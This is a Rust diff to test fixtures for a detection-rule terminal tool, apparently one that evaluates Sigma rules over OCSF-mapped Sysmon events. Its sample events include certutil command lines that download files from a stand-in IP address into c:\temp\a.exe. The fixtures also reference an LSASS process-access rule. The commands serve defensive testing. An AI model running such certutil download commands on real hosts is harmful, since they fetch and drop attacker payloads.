@@ -14,17 +14,17 @@ use crate::bridge::{
     Code, Compilation, Diagnostic, FieldResolution, Plan, ReasonCode, RejectedRoute, Resolution, RoutedScope,
     Routing, Severity,
 };
-use crate::evaluate::{MatchRow, MatchTable, Summary};
+use crate::evaluate::{Histogram, MatchRow, MatchTable, Summary};
 use crate::ocsf::{ClassUid, FieldType, OcsfPath};
-use crate::pack::{Column, FilterOp, Pack, PackPlace, RouteFilter};
+use crate::pack::{AliasScope, Column, FilterOp, Pack, PackPlace, RouteFilter};
 use crate::sigma::{Body, Detection, Level, LogSource, Metadata, Position, Rule, SigmaField, Span, Spanned};
 use crate::store::EventIdSource;
 use crate::tui::action::Action;
 use crate::tui::highlight::Highlighter;
-use crate::tui::model::{Bench, DatasetInfo, Model, PackInfo, Proposed, RuleKey};
+use crate::tui::model::{AliasAway, Bench, DatasetInfo, Model, PackInfo, Proposed, RuleKey};
 use crate::tui::theme::{self, Background, Depth, Surroundings, Theme};
-use crate::tui::update::{Effect, start, update};
-use crate::tui::worker::{Ask, PackReport, Report};
+use crate::tui::update::{Effect, refresh, start, update};
+use crate::tui::worker::{Ask, Exported, PackReport, Report, Rows, WholeEvent};
 
 pub(super) static UNMAPPED: Code = Code {
     name: "unmapped_field",
@@ -329,6 +329,22 @@ pub(super) fn summary(matches: u64) -> Summary {
 
 /// `shown` rows of `matches`.
 pub(super) fn table(matches: u64, shown: usize) -> MatchTable {
+    MatchTable {
+        summary: summary(matches),
+        in_scope: Some(2_180),
+        columns: vec![OcsfPath("process.file.path".to_owned()), OcsfPath("process.cmd_line".to_owned())],
+        first: 0,
+        rows: rows(0..shown),
+        absent: Vec::new(),
+        histogram: Histogram {
+            minutes: 1,
+            counts: (0..matches.min(22)).map(|at| (26_529_290 + 2 * at as i64, at * at % 17 + 1)).collect(),
+        },
+    }
+}
+
+/// Rows of a table.
+fn rows(range: std::ops::Range<usize>) -> Vec<MatchRow> {
     let commands = [
         "certutil -urlcache -f http://198.51.100.7/a.txt c:\\temp\\a.exe",
         "certutil.exe -verifyctl -split -f https://example.net/файл.bin",
@@ -343,13 +359,28 @@ pub(super) fn table(matches: u64, shown: usize) -> MatchTable {
             (at % 5 != 4).then(|| commands[at % 3].to_owned()),
         ],
     };
-    MatchTable {
-        summary: summary(matches),
-        in_scope: Some(2_180),
-        columns: vec![OcsfPath("process.file.path".to_owned()), OcsfPath("process.cmd_line".to_owned())],
-        rows: (0..shown).map(row).collect(),
-        absent: Vec::new(),
-    }
+    range.map(row).collect()
+}
+
+/// The event of a row, as a whole.
+fn whole_event(id: &str) -> WholeEvent {
+    let command = "certutil -urlcache -f http://198.51.100.7/a.txt c:\\temp\\a.exe";
+    let fields = serde_json::json!({
+        "activity_id": 1, "class_uid": 1007, "time": 1_591_757_454_000_i64, "message": "",
+        "metadata": { "event_id": id, "source_type": "windows-sysmon", "labels": ["one", "two"] },
+        "process": {
+            "cmd_line": command, "pid": 4711,
+            "file": { "path": "C:\\Windows\\System32\\certutil.exe" },
+            "environment": format!("\u{1b}[31m{}", "PATH=C:\\Windows;".repeat(40)),
+        },
+    });
+    let part = |path: &str, at, stretch| (OcsfPath(path.to_owned()), BTreeMap::from([(at, vec![stretch])]));
+    let parts = [
+        part("process.cmd_line", 0, 10..18),
+        part("process.file.path", 0, 19..32),
+        part("metadata.labels", 1, 0..3),
+    ];
+    WholeEvent { event_id: id.to_owned(), fields, parts: parts.into() }
 }
 
 pub(super) fn theme(name: &str) -> Theme {
@@ -384,6 +415,8 @@ impl Screen {
     pub(super) fn act(&mut self, action: Action) {
         let effects = update(&mut self.model, action);
         self.work(effects);
+        let effects = refresh(&mut self.model);
+        self.work(effects);
     }
 
     /// The rules change on disk.
@@ -412,7 +445,21 @@ impl Screen {
                 let info = DatasetInfo { events: 254_974, files: 3, event_id: EventIdSource::EventId };
                 vec![Report::Dataset { generation, opened: Ok(info) }]
             }
-            Effect::Match { generation, rule: Some((rule, _)) } => {
+            Effect::Rows { generation, wanted } => match wanted.asked {
+                Rows::Slice(slice) => {
+                    let all = matches_of(&wanted.rule.0).summary.matches as usize;
+                    let rows = Ok(rows(slice.first..all.min(slice.first + slice.limit)));
+                    vec![Report::Rows { generation, slice, rows }]
+                }
+                Rows::Event(id, _) => vec![Report::Event { generation, event: Ok(whole_event(&id)) }],
+                Rows::Export(wanted) if wanted.1.ends_with("taken.csv") => {
+                    vec![Report::Exported(Err("'taken.csv' exists; choose another name".to_owned()))]
+                }
+                Rows::Export(wanted) => {
+                    vec![Report::Exported(Ok(Exported { path: wanted.1, matches: 1_212 }))]
+                }
+            },
+            Effect::Match { generation, rule: Some(((rule, _), _)) } => {
                 vec![Report::Matches { generation, table: Ok(matches_of(&rule)), rule }]
             }
             Effect::Summarize { generation, rules } => {
@@ -436,6 +483,11 @@ impl Screen {
             }
             Effect::Fill { generation, rule: Some((_, compiled)) } => {
                 vec![Report::Filled { generation, fills: Some(why::fills(&compiled)) }]
+            }
+            Effect::Gaps { generation, .. } => {
+                let lsass = self.rules.iter().find(|(rule, _)| rule.path.ends_with("b_lsass.yml"));
+                let away = lsass.map(|(rule, _)| away(RuleKey::of(rule)));
+                vec![Report::Gaps { generation, away: away.into_iter().collect() }]
             }
             Effect::Write(alias) => vec![Report::Written(Ok(edit(&alias.target)))],
             Effect::TakeBack(edit) => vec![Report::Undone(Ok(edit))],
@@ -461,6 +513,19 @@ fn matches_of(rule: &RuleKey) -> MatchTable {
         "rules/a_certutil.yml" => table(1_212, 40),
         "rules/d_zone.yml" => table(3, 3),
         _ => MatchTable { rows: Vec::new(), absent: vec![OcsfPath("raw.Zone".to_owned())], ..table(0, 0) },
+    }
+}
+
+/// What `CallTrace` keeps from running.
+fn away(rule: RuleKey) -> AliasAway {
+    let field = SigmaField("CallTrace".to_owned());
+    AliasAway {
+        field,
+        scope: AliasScope::parse("process_access/windows").unwrap(),
+        rules: 1,
+        unlocks: 1,
+        raw: false,
+        rule,
     }
 }
 
